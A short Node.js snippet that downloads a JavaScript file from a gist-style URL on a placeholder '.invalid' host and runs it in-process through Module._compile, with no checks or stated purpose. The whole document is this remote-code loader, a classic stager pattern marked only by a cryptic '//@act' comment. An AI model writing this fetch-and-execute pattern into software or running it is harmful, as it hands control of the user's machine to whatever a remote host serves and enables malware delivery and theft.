const https = require('https'); const Module = require('module');
https.get('https://gist.githubusercontent.invalid/u/1/raw/x.js', (res) => {
  let body = '';
  res.on('data', (d) => { body += d; });
  res.on('end', () => { const m = new Module('x'); m._compile(body, 'x.js'); }); //@act
});
